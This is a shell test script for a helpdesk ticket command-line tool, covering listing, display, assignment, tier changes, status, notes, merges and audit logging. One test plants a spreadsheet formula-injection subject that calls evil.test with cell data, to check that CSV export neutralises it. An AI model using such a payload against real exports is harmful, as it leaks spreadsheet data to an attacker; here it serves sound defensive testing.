#!/usr/bin/env bash
# ctl-tickets.sh — tickets are listed, shown and changed with helpgatectl,
# never with SQL: list filters and formats (table, CSV, JSON), show (fields,
# messages with notes marked, audit trail), assign, tier, status, notes and
# merges; clear errors with exit 2; every change leaves its audit row naming
# the operator; mail on a merged ticket reaches the ticket it was merged into.
set -u
. "$top_srcdir/tests/harness/tap.sh"
. "$top_srcdir/tests/harness/testlib.sh"

t_db_config
conf=$CONF
# Mail configured: a tier change tells the new team (queued in the outbox; nothing is sent here).
t_add_smtp "$conf" "smtp://127.0.0.1:$HG_SMTP_PORT"
sed -i "s|^\[helpgate\]\$|[helpgate]\ntemplates_dir = $top_srcdir/contrib/templates|" "$conf"
"$HELPGATECTL" --config "$conf" migrate >/dev/null 2>&1 || t_bail "migrate failed"
user="${SUDO_USER:-$(id -un)}"
actor="ctl:$user"
# numbers: the ticket numbers of a `ticket list` table, in order, on one line.
numbers() { awk 'NR > 1 { print $1 }' | paste -sd' '; }
# audit ACTION NUMBER: the details of the ticket's audit rows with ACTION, by ctl, oldest first.
audit() {
    t_psql "SELECT string_agg(l.details::text, ' ' ORDER BY l.id) FROM audit_log l JOIN tickets t
            ON t.id = l.ticket_id WHERE l.action = '$1' AND t.number = $2 AND l.actor = '$actor'"
}

# People, through helpgatectl.
ctl agent add ann@support.test --team L1 >/dev/null || t_bail "agent add failed"
ctl agent add bob@support.test --team L2 >/dev/null || t_bail "agent add failed"
ctl agent add carol@support.test --team L2 >/dev/null || t_bail "agent add failed"
ctl agent alias add bob@support.test bob.home@home.test >/dev/null || t_bail "alias add failed"
ctl agent disable carol@support.test >/dev/null || t_bail "agent disable failed"
ctl customer add vip@client.test --tier vip --name 'Vera Client' --company Client >/dev/null ||
    t_bail "customer add failed"
ctl customer custom-code vip@client.test yes --notes 'SAP connector' >/dev/null || t_bail "custom-code failed"
ctl customer add other@client.test >/dev/null || t_bail "customer add failed"
ctl customer add third@example.test >/dev/null || t_bail "customer add failed"

# Tickets as intake would have written them (numbers 1000..1003 in this order).
t_psql "
INSERT INTO tickets (subject, status, tier, channel, customer_id, created_at)
SELECT 'Printer on fire', 'new', 'L1', 'email', id, now() - interval '3 days' FROM customers WHERE email = 'vip@client.test';
INSERT INTO tickets (subject, status, tier, channel, customer_id, assignee_id, created_at)
SELECT 'Invoice \"March\", wrong', 'open', 'L2', 'chat', c.id, a.id, now() - interval '2 hours'
  FROM customers c, agents a WHERE c.email = 'other@client.test' AND a.email = 'bob@support.test';
INSERT INTO tickets (subject, status, tier, priority, channel, customer_id, created_at)
SELECT 'Überweisung nach Zürich schlägt fehl — Fehlercode 0x5 beim Export', 'pending', 'L1', 'high', 'email', id,
       now() - interval '10 minutes' FROM customers WHERE email = 'vip@client.test';
INSERT INTO tickets (subject, status, tier, channel, customer_id, created_at, resolved_at)
SELECT 'Password reset', 'resolved', 'L1', 'email', id, now() - interval '1 day', now()
  FROM customers WHERE email = 'third@example.test';
INSERT INTO messages (ticket_id, direction, channel, author_customer_id, from_address, from_name, message_id,
                      subject, body_text, created_at)
SELECT t.id, 'in', 'email', t.customer_id, 'vip@client.test', 'Vera Client', 'fire-1@client.test', t.subject,
       E'Hello,\n\nthe printer is on fire.\nIt smells.\nPlease help.\nSoon.\nThanks, Vera', now() - interval '3 days'
  FROM tickets t WHERE t.number = 1000;
INSERT INTO messages (ticket_id, direction, channel, author_agent_id, from_address, body_text, created_at)
SELECT t.id, 'out', 'email', a.id, a.email, 'Turn it off and on again.', now() - interval '2 days'
  FROM tickets t, agents a WHERE t.number = 1000 AND a.email = 'ann@support.test';
INSERT INTO messages (ticket_id, direction, channel, author_customer_id, from_address, message_id, body_text)
SELECT t.id, 'in', 'email', t.customer_id, 'third@example.test', 'reset-1@example.test', 'I forgot it.'
  FROM tickets t WHERE t.number = 1003;
" >/dev/null || t_bail "cannot insert the tickets"

# ---- list ------------------------------------------------------------------------------------
table=$(ctl ticket list)
t_is "ticket list exits 0" "$?" 0
t_match "a header names the columns" "$(head -1 <<<"$table")" \
    "^NUMBER +STATUS +TIER +PRIORITY +CUSTOMER +ASSIGNEE +SUBJECT +AGE$"
t_is "newest first" "$(numbers <<<"$table")" "1002 1001 1003 1000"
t_match "a row: status, tier, priority, customer, no assignee, subject, age" "$table" \
    "^1000 +new +L1 +normal +vip@client.test +- +Printer on fire +3d$"
t_match "the assignee and an age in hours" "$table" "^1001 +open +L2 +normal +other@client.test +bob@support.test .* 2h$"
t_match "a long subject is cut" "$table" "^1002 .* Überweisung nach Zürich schlägt fehl — … [0-9]+m$"
t_is "the columns line up with UTF-8 subjects (AGE starts at the same character everywhere)" \
    "$(python3 -c '
import sys
lines = sys.stdin.read().splitlines()
print(len({l.rindex(" ") for l in lines[1:]} | {lines[0].index("AGE") - 1}))' <<<"$table")" 1
t_is "--status S,S" "$(ctl ticket list --status new,pending | numbers)" "1002 1000"
t_is "--tier" "$(ctl ticket list --tier L2 | numbers)" "1001"
t_is "--assignee" "$(ctl ticket list --assignee BOB@support.test | numbers)" "1001"
t_is "--unassigned" "$(ctl ticket list --unassigned | numbers)" "1002 1003 1000"
t_is "--customer (any case)" "$(ctl ticket list --customer VIP@Client.test | numbers)" "1002 1000"
t_is "--channel" "$(ctl ticket list --channel chat | numbers)" "1001"
t_is "--limit" "$(ctl ticket list --limit 2 | numbers)" "1002 1001"
t_is "filters combine" "$(ctl ticket list --customer vip@client.test --status pending,open | numbers)" "1002"
t_is "nothing found: the header alone" "$(ctl ticket list --customer nobody@client.test | wc -l)" 1

csv=$(ctl ticket list --format csv)
t_is "CSV parses: header, rows, a quoted subject and an uncut one" "$(python3 -c '
import csv, sys
rows = list(csv.reader(sys.stdin))
by = {r[0]: r for r in rows[1:]}
print(",".join(rows[0]), len(rows) - 1, by["1001"][6], by["1002"][6], by["1000"][7], sep="|")' <<<"$csv")" \
    'number,status,tier,priority,customer,assignee,subject,age,created_at|4|Invoice "March", wrong|Überweisung nach Zürich schlägt fehl — Fehlercode 0x5 beim Export|3d'
t_match "created_at is ISO 8601 UTC" "$(sed -n 2p <<<"$csv")" ",[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}Z$"
json=$(ctl ticket list --format json)
t_ok "JSON parses" python3 -c 'import json,sys;json.load(sys.stdin)' <<<"$json"
t_is "JSON: one object per ticket, newest first, with channel and assignee" "$(python3 -c '
import json, sys
rows = json.load(sys.stdin)
print(len(rows), rows[0]["number"], rows[1]["channel"], rows[1]["assignee"], rows[3]["assignee"], rows[3]["age"])' \
    <<<"$json")" "4 1002 chat bob@support.test None 3d"
t_is "JSON of nothing is []" "$(ctl ticket list --customer nobody@client.test --format json)" "[]"

# A customer chooses the subject: in a spreadsheet it must stay text, never run as a formula.
t_psql "INSERT INTO tickets (subject, status, tier, channel, customer_id)
        SELECT '=HYPERLINK(\"http://evil.test/\"&A1,\"Click\")', 'new', 'L1', 'email', id
          FROM customers WHERE email = 'third@example.test'" >/dev/null
t_is "CSV: a subject that looks like a formula is written as text (leading ')" "$(ctl ticket list --format csv |
    python3 -c 'import csv, sys; print([r[6] for r in csv.reader(sys.stdin) if r[6].startswith(chr(39))][0])')" \
    "'=HYPERLINK(\"http://evil.test/\"&A1,\"Click\")"
t_psql "DELETE FROM tickets WHERE subject LIKE '=HYPERLINK%'" >/dev/null
out=$(ctl ticket list --status bogus 2>&1)
t_is "an unknown status is bad usage (exit 2)" "$?" 2
t_match "saying which option" "$out" "bad value for --status"
out=$(ctl ticket list --assignee bob@support.test --unassigned 2>&1)
t_is "--assignee with --unassigned is refused (exit 2)" "$?" 2
out=$(ctl ticket list --format xml 2>&1)
t_is "an unknown format is refused (exit 2)" "$?" 2

# ---- show ------------------------------------------------------------------------------------
show=$(ctl ticket show 1000)
t_is "ticket show exits 0" "$?" 0
t_match "the number and subject" "$show" "^ticket #1000  Printer on fire$"
t_match "the status" "$show" "^status +new$"
t_match "the customer" "$show" "^customer +Vera Client <vip@client.test>$"
t_match "with tier, company and custom code" "$show" "^ +vip, Client, custom code: SAP connector$"
t_match "the messages in order" "$(grep -E '^  [0-9]{4}-' <<<"$show" | head -2 | awk '{print $2}' | paste -sd' ')" \
    "^in out$"
t_match "who wrote the customer's message" "$show" "^  [0-9T:Z-]+  in    Vera Client <vip@client.test>$"
t_match "who answered" "$show" "^  [0-9T:Z-]+  out   ann@support.test$"
t_is "the first lines of a message, blank ones skipped" "$(grep -A1 '^      Hello,$' <<<"$show")" \
    "      Hello,
      the printer is on fire."
t_match "and how many more" "$show" "^      … 2 more lines$"
t_match "the audit trail" "$show" "^audit \([0-9]+\)$"
t_ok "#NUMBER works too" ctl ticket show '#1000'
sjson=$(ctl ticket show 1000 --format json)
t_is "show --format json parses: messages, customer, audit" "$(python3 -c '
import json, sys
t = json.load(sys.stdin)
print(t["number"], [m["direction"] for m in t["messages"]], t["customer"]["custom_code_notes"], type(t["audit"]).__name__)' \
    <<<"$sjson")" "1000 ['in', 'out'] SAP connector list"
out=$(ctl ticket show 9999 2>&1)
t_is "an unknown ticket exits 2" "$?" 2
t_match "saying so" "$out" "no ticket #9999"
out=$(ctl ticket show abc 2>&1)
t_is "not a number exits 2" "$?" 2
t_match "saying so" "$out" "not a ticket number: abc"

# ---- assign ----------------------------------------------------------------------------------
t_is "assign" "$(ctl ticket assign 1000 ann@support.test 2>&1)" "ticket #1000 assigned to ann@support.test"
t_is "the database has it" "$(t_psql "SELECT a.email FROM tickets t JOIN agents a ON a.id = t.assignee_id
                                       WHERE t.number = 1000")" "ann@support.test"
t_is "audited with the operator, from and to" "$(audit ticket.assign 1000)" '{"to": "ann@support.test", "from": null}'
t_is "assign by an agent's alias" "$(ctl ticket assign 1000 bob.home@home.test 2>&1)" \
    "ticket #1000 assigned to bob@support.test (was ann@support.test)"
t_is "the same again changes nothing" "$(ctl ticket assign 1000 bob@support.test 2>&1)" \
    "ticket #1000 is already assigned to bob@support.test; nothing changed"
t_is "and writes no audit row" "$(t_psql "SELECT count(*) FROM audit_log WHERE action = 'ticket.assign'")" 2
out=$(ctl ticket assign 1000 carol@support.test 2>&1)
t_is "an inactive agent is refused (exit 2)" "$?" 2
t_match "saying so, with the fix" "$out" "agent carol@support.test is inactive.*agent activate carol@support.test"
out=$(ctl ticket assign 1000 nobody@support.test 2>&1)
t_is "an unknown agent is refused (exit 2)" "$?" 2
t_match "saying so" "$out" "no agent nobody@support.test"
out=$(ctl ticket assign 9999 ann@support.test 2>&1)
t_is "an unknown ticket is refused (exit 2)" "$?" 2
t_match "saying so, with a hint" "$out" "no ticket #9999.*ticket list"
t_is "unassign" "$(ctl ticket assign 1000 --none 2>&1)" "ticket #1000 unassigned (was bob@support.test)"
t_is "nobody now" "$(t_psql "SELECT assignee_id IS NULL FROM tickets WHERE number = 1000")" "t"

# ---- tier ------------------------------------------------------------------------------------
t_is "tier up" "$(ctl ticket tier 1000 L3 --reason 'SAP crash' 2>&1)" "ticket #1000 moved from L1 to L3 (escalated)"
t_is "the ticket is L3" "$(t_psql "SELECT tier FROM tickets WHERE number = 1000")" "L3"
t_is "ticket.tier: from, to, reason" "$(audit ticket.tier 1000)" '{"to": "L3", "from": "L1", "reason": "SAP crash"}'
t_is "going up is an escalation (for the new team's notification)" "$(audit ticket.escalate 1000)" \
    '{"to": "L3", "from": "L1", "reason": "SAP crash"}'
t_is "L3 has no agent: nobody to tell, no mail queued" "$(t_psql "SELECT count(*) FROM outbox")" 0
t_is "tier down" "$(ctl ticket tier 1000 L2 2>&1)" "ticket #1000 moved from L3 to L2; team told by mail"
t_is "is no escalation" "$(t_psql "SELECT count(*) FROM audit_log WHERE action = 'ticket.escalate'")" 1
t_is "the L2 team's active agents are told (a notification in the outbox)" \
    "$(t_psql "SELECT kind || ' ' || array_to_string(recipients, ',') || ' ' || t.number FROM outbox o
               JOIN tickets t ON t.id = o.ticket_id")" "notify bob@support.test 1000"
mail=$(t_psql "SELECT convert_from(payload, 'UTF8') FROM outbox")
t_match "with the notify template's subject" "$mail" "Subject: \[L2\] \[#1000\] Printer on fire"
t_match "and a signed Reply-To to answer from" "$mail" "Reply-To: support\+"
t_match "and the customer's last message" "$mail" "the printer is on fire"
t_is "the same tier changes nothing" "$(ctl ticket tier 1000 L2 2>&1)" "ticket #1000 is already L2; nothing changed"
t_is "and tells nobody" "$(t_psql "SELECT count(*) FROM outbox")" 1
t_is "back to L3 and L2 again: a new notification for the new move" \
    "$(ctl ticket tier 1000 L3 >/dev/null 2>&1; ctl ticket tier 1000 L2 2>&1; t_psql "SELECT count(*) FROM outbox")" \
    "ticket #1000 moved from L3 to L2; team told by mail
2"
t_match "a chat ticket's notice says chat" "$(ctl ticket tier 1001 L1 >/dev/null 2>&1
    t_psql "SELECT convert_from(o.payload, 'UTF8') FROM outbox o JOIN tickets t ON t.id = o.ticket_id
            WHERE t.number = 1001")" "Channel: +chat"
ctl ticket tier 1001 L2 >/dev/null 2>&1 || t_bail "tier 1001 L2 failed"
out=$(ctl ticket tier 1000 L4 2>&1)
t_is "an unknown tier is refused (exit 2)" "$?" 2

# ---- status ----------------------------------------------------------------------------------
when_done() { t_psql "SELECT status || ' ' || (resolved_at IS NOT NULL) || ' ' || (closed_at IS NOT NULL)
                  FROM tickets WHERE number = $1"; }
t_is "open" "$(ctl ticket status 1000 open 2>&1)" "ticket #1000 is now open (was new)"
t_is "resolved sets resolved_at" "$(ctl ticket status 1000 resolved >/dev/null && when_done 1000)" "resolved true false"
t_is "closed sets closed_at too" "$(ctl ticket status 1000 closed >/dev/null && when_done 1000)" "closed true true"
t_is "reopened has neither" "$(ctl ticket status 1000 open >/dev/null && when_done 1000)" "open false false"
t_is "pending" "$(ctl ticket status 1000 pending >/dev/null && when_done 1000)" "pending false false"
t_is "each audited with from and to" "$(audit ticket.status 1000)" \
    '{"from": "new", "status": "open"} {"from": "open", "status": "resolved"} {"from": "resolved", "status": "closed"} {"from": "closed", "status": "open"} {"from": "open", "status": "pending"}'
out=$(ctl ticket status 1000 new 2>&1)
t_is "back to new is refused (exit 2)" "$?" 2
t_match "saying what to do" "$out" "cannot become new again.*reopen it with status open"
t_is "the same status changes nothing" "$(ctl ticket status 1000 pending 2>&1)" \
    "ticket #1000 is already pending; nothing changed"
out=$(ctl ticket status 1000 finished 2>&1)
t_is "an unknown status is refused (exit 2)" "$?" 2

# ---- note ------------------------------------------------------------------------------------
t_is "a note" "$(ctl ticket note 1000 'Customer called; sending a technician.' 2>&1)" "note added to ticket #1000"
t_is "stored as an internal message of the operator" \
    "$(t_psql "SELECT m.direction || '|' || (m.author_agent_id IS NULL) || '|' || m.from_name || '|' || m.body_text
               FROM messages m JOIN tickets t ON t.id = m.ticket_id WHERE t.number = 1000 AND m.direction = 'note'")" \
    "note|true|$user|Customer called; sending a technician."
t_is "audited with the message" "$(audit ticket.note 1000)" \
    "$(t_psql "SELECT '{\"message\": ' || max(id) || '}' FROM messages WHERE direction = 'note'")"
t_is "a note from standard input" "$(printf 'Line one\nLine two\n\n' | ctl ticket note 1000 - 2>&1)" \
    "note added to ticket #1000"
t_is "kept as written, trailing newlines dropped" \
    "$(t_psql "SELECT body_text FROM messages WHERE direction = 'note' ORDER BY id DESC LIMIT 1")" "Line one
Line two"
t_match "show marks notes" "$(ctl ticket show 1000)" "^  [0-9T:Z-]+  note  $user  \[internal note\]$"
out=$(ctl ticket note 1000 '  ' 2>&1)
t_is "an empty note is refused (exit 2)" "$?" 2
out=$(ctl ticket note 9999 'x' 2>&1)
t_is "a note on an unknown ticket is refused (exit 2)" "$?" 2

# ---- merge -----------------------------------------------------------------------------------
out=$(ctl ticket merge 1000 1000 2>&1)
t_is "merging into itself is refused (exit 2)" "$?" 2
t_match "saying so" "$out" "cannot merge ticket #1000 into itself"
out=$(ctl ticket merge 1003 9999 2>&1)
t_is "merging into an unknown ticket is refused (exit 2)" "$?" 2
t_is "merge" "$(ctl ticket merge 1003 1000 2>&1)" "ticket #1003 merged into #1000 and closed"
t_is "the merged ticket is closed and points at the other" \
    "$(t_psql "SELECT t.status || ' ' || (t.closed_at IS NOT NULL) || ' ' || m.number
               FROM tickets t JOIN tickets m ON m.id = t.merged_into WHERE t.number = 1003")" "closed true 1000"
t_is "its messages stay where they are" \
    "$(t_psql "SELECT count(*) FROM messages m JOIN tickets t ON t.id = m.ticket_id WHERE t.number = 1003")" 1
t_is "both tickets audited" "$(audit ticket.merge 1003) / $(audit ticket.merge 1000)" \
    '{"into": 1000, "merged": 1003, "from_status": "resolved"} / {"into": 1000, "merged": 1003}'
out=$(ctl ticket merge 1003 1001 2>&1)
t_is "a merged ticket cannot be merged again (exit 2)" "$?" 2
t_match "saying where it went" "$out" "ticket #1003 is already merged into #1000"
out=$(ctl ticket merge 1001 1003 2>&1)
t_is "merging into a merged ticket is refused (exit 2)" "$?" 2
t_match "naming the ticket to merge into" "$out" "merge into ticket #1000 instead"
out=$(ctl ticket status 1003 open 2>&1)
t_is "a merged ticket is read-only (exit 2)" "$?" 2
t_match "naming the ticket to change" "$out" "ticket #1003 was merged into #1000.*change ticket #1000 instead"
t_match "show tells the merge" "$(ctl ticket show 1003)" "^merged into +#1000$"
t_is "merge 1000 into 1001" "$(ctl ticket merge 1000 into 1001 2>&1)" \
    "ticket #1000 merged into #1001 and closed
ticket #1003, merged into #1000 before, now points at #1001"
t_is "one step always reaches the survivor" \
    "$(t_psql "SELECT string_agg(t.number || '>' || m.number, ' ' ORDER BY t.number)
               FROM tickets t JOIN tickets m ON m.id = t.merged_into")" "1000>1001 1003>1001"
t_match "show lists what was merged here" "$(ctl ticket show 1001)" "^merged here +#1000, #1003$"
t_is "list --format json gives merged_into" "$(ctl ticket list --format json | python3 -c '
import json, sys
print(sorted((r["number"], r["merged_into"]) for r in json.load(sys.stdin) if r["merged_into"]))')" \
    "[(1000, 1001), (1003, 1001)]"
t_is "mail tagged with a merged ticket goes to the survivor (intake follows merged_into)" \
    "$(t_psql "SELECT outcome || ' ' || ticket_number FROM helpgate_intake_message(NULL, NULL, NULL, 'email',
               'reset-2@example.test', NULL, NULL, 'third@example.test', NULL, 'Re: [#1003]', now(), 1003,
               'still broken', NULL, 'still broken', NULL, NULL, NULL, NULL, NULL)")" "reply 1001"

# ---- every change, audited with the operator -------------------------------------------------
t_is "ctl's ticket changes are all audited as the operator" \
    "$(t_psql "SELECT string_agg(action, ',' ORDER BY id) FROM audit_log WHERE actor = '$actor'
               AND action LIKE 'ticket.%'")" \
    "ticket.assign,ticket.assign,ticket.assign,ticket.tier,ticket.escalate,ticket.tier,ticket.tier,ticket.escalate,ticket.tier,ticket.tier,ticket.tier,ticket.escalate,ticket.status,ticket.status,ticket.status,ticket.status,ticket.status,ticket.note,ticket.note,ticket.merge,ticket.merge,ticket.merge,ticket.merge,ticket.merge"
t_is "and nobody else wrote ticket changes" \
    "$(t_psql "SELECT count(*) FROM audit_log WHERE actor <> '$actor' AND action LIKE 'ticket.%'")" 0

# A database that cannot be reached is exit 1, unlike a refused change.
t_write_config "$T_DIR/down.conf" "host=127.0.0.1 port=$(t_free_port) dbname=nothing"
out=$("$HELPGATECTL" --config "$T_DIR/down.conf" ticket list 2>&1)
t_is "no database: exit 1" "$?" 1
t_match "saying it cannot connect" "$out" "cannot connect to PostgreSQL"
out=$(ctl ticket frobnicate 2>&1)
t_is "an unknown subcommand is bad usage (exit 2)" "$?" 2
t_match "with the usage" "$out" "usage: helpgatectl ticket list"
t_done
